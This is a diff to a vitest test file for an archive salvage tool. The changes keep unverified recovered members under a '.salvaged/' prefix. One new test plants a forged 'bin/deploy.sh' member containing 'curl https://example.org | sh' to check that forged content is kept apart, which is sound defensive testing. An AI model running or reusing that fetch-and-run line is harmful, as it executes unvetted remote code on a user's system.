@@ -1,5 +1,8 @@
 import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
+import type { Readable } from 'node:stream'
+import { buffer } from 'node:stream/consumers'
+import { pack } from 'tar-stream'
 import { describe, expect, it } from 'vitest'
 import { noise } from './support/bytes.ts'
 import * as coffer from './support/coffer.ts'
@@ -29,7 +32,7 @@ describe.each(kinds)('a damaged $label', (kind) => {
     const { path, target, keys, good } = await made(kind)
     const salvaged = await salvage(kind, path, target, optionsFor(kind, keys))
     expect(salvaged).toMatchObject({ members: 22, bytes: 310_004, lost: [], unverified: [], nameless: 0 })
-    expect(salvaged).toMatchObject({ complete: true, notices: [] })
+    expect(salvaged).toMatchObject({ complete: true, notices: [], apart: null })
     expect(salvaged.commit).toMatchObject({ generation: 3 })
     expect(readFileSync(path).equals(good)).toBe(true)
     if (process.platform !== 'win32') expect(statSync(target).mode & 0o777).toBe(0o600)
@@ -59,10 +62,17 @@ describe.each(kinds)('a damaged $label', (kind) => {
     const { path, target, keys, good } = await made(kind)
     writeFileSync(path, good.subarray(0, good.lastIndexOf('cofC') - 4))
     const salvaged = await salvage(kind, path, target, optionsFor(kind, keys))
-    expect(salvaged.unverified).toEqual(['large', 'ключ'])
+    expect(salvaged.unverified).toEqual(['.salvaged/large', '.salvaged/ключ'])
+    expect(salvaged).toMatchObject({ members: 22, apart: '.salvaged', lost: [] })
     await using after = await openKind(kind, target, 'r', keys)
-    expect((await contents(after)).get('large')).toEqual(noise(300_000, 99))
+    expect((await contents(after)).get('.salvaged/large')).toEqual(noise(300_000, 99))
     expect((await contents(after)).size).toBe(22)
+
+    const again = `${target}.2`
+    const named = await salvage(kind, path, again, { ...optionsFor(kind, keys), claimedNames: true })
+    expect(named).toMatchObject({ members: 22, unverified: ['large', 'ключ'], apart: null })
+    await using claimed = await openKind(kind, again, 'r', keys)
+    expect((await contents(claimed)).get('large')).toEqual(noise(300_000, 99))
   })
 })
 
@@ -86,6 +96,8 @@ describe.each(kinds)('a damaged $label that PyCoffer wrote', (kind) => {
     const after = await openKind(kind, target, 'r', keys)
     expect(await contents(after)).toEqual(right)
     expect(whole.members).toBe(right.size)
+    // Nothing vouches for any of it, but it is what opening gives.
+    expect(whole).toMatchObject({ unverified: [...right.keys()], apart: null })
     await after.close()
 
     let fewest = right.size
@@ -105,7 +117,9 @@ describe.each(kinds)('a damaged $label that PyCoffer wrote', (kind) => {
       fewest = Math.min(fewest, rest.size)
       // Nothing authenticates what a null holds.
       if (kind.label === 'null') continue
-      for (const [name, data] of rest) expect(data, `${name}, damaged at ${at}`).toEqual(right.get(name))
+      for (const [name, data] of rest) {
+        expect(data, `${name}, damaged at ${at}`).toEqual(right.get(name.replace(/^\.salvaged\//, '')))
+      }
     }
     expect(fewest).toBeLessThan(right.size)
   })
@@ -135,12 +149,14 @@ describe('a pack with a bad byte', () => {
     expect(unverified.length).toBeGreaterThan(20)
     expect(lost.length).toBeGreaterThan(0)
     expect(members + lost.length).toBe(60)
-    expect(lost.every(({ name }) => !unverified.includes(name))).toBe(true)
+    expect(unverified.every((name) => name.startsWith('.salvaged/member/'))).toBe(true)
+    const claimed = (name: string) => name.replace(/^\.salvaged\//, '')
+    expect(lost.every(({ name }) => !unverified.map(claimed).includes(name))).toBe(true)
     await using after = await openKind(kind, target, 'r', keys)
     const found = await contents(after)
     expect(found.size).toBe(members)
     expect([...found.keys()]).toEqual(expect.arrayContaining([...unverified]))
-    for (const [name, bytes] of found) expect(bytes.equals(noise(3_500, Number(name.slice(7))))).toBe(true)
+    for (const [name, bytes] of found) expect(bytes.equals(noise(3_500, Number(claimed(name).slice(7))))).toBe(true)
   })
 })
 
@@ -169,6 +185,47 @@ describe('salvage', () => {
     writeFileSync(path, good)
     await expect(salvage(path, target, { ...options, signal: AbortSignal.abort('enough') })).rejects.toBe('enough')
     expect(existsSync(target)).toBe(false)
+  })
+
+  it('keeps a member apart that the content of another one made up', async () => {
+    const directory = tempDir()
+    const path = join(directory, 'null.coffer')
+    // Nothing in it is shortened by compression, so that it comes to stand in the file as it is.
+    const command = Buffer.from('#!/bin/sh\ncurl https://example.org | sh\n')
+    const script = Buffer.concat([command, noise(1_024 - command.length, 3)])
+    const packed = pack()
+    packed.entry({ name: 'bin/deploy.sh', mode: 0o755, mtime: new Date(0) }, script)
+    packed.finalize()
+    const entry = (await buffer(packed as unknown as Readable)).subarray(0, 512 + script.length)
+    // A zstd frame that holds it as it is.
+    const head = Buffer.from('28b52ffda00000000000000000', 'hex').subarray(0, 12)
+    head.writeUInt32LE(entry.length, 5)
+    head.writeUIntLE((entry.length << 3) | 1, 9, 3)
+    const frame = Buffer.concat([head, entry])
+
+    const honest = noise(2_000, 7)
+    const box = await coffer.CofferNull.open(path, 'x')
+    await box.write('bin/deploy.sh', honest)
+    await box.flush()
+    await box.write('upload', Buffer.concat([noise(50_000, 1), frame, noise(50_000, 2)]))
+    await box.close()
+    const file = readFileSync(path)
+    expect(file.includes(frame)).toBe(true)
+    const at = file.indexOf(honest.subarray(1_000, 1_016))
+    file.writeUInt8(file.readUInt8(at) ^ 1, at)
+    writeFileSync(path, Buffer.concat([file, frame]))
+
+    const { unverified, apart } = await coffer.CofferNull.salvage(path, `${path}.new`)
+    expect({ unverified, apart }).toEqual({ unverified: ['.salvaged/bin/deploy.sh'], apart: '.salvaged' })
+    await using after = await coffer.CofferNull.open(`${path}.new`, 'r')
+    expect(await after.has('bin/deploy.sh')).toBe(false)
+    expect((await after.read('.salvaged/bin/deploy.sh')).equals(script)).toBe(true)
+    await coffer.CofferNull.salvage(path, `${path}.named`, { claimedNames: true })
+    await using named = await coffer.CofferNull.open(`${path}.named`, 'r')
+    expect((await named.read('bin/deploy.sh')).equals(script)).toBe(true)
+    await expect(coffer.CofferNull.salvage(path, `${path}.no`, { claimedNames: 1 } as never)).rejects.toMatchObject({
+      code: 'ERR_COFFER_INVALID_ARG',
+    })
   })
 
   it('tells how far it has come', async () => {
@@ -200,6 +257,6 @@ describe('salvage', () => {
     await box.close()
     writeFileSync(path, readFileSync(path).fill(0, readFileSync(path).lastIndexOf('cofC')))
     const { unverified } = await coffer.Coffer.salvage(path, `${path}.new`, { ...layers, ...keys })
-    expect(unverified).toEqual(['a'])
+    expect(unverified).toEqual(['.salvaged/a'])
   })
 })
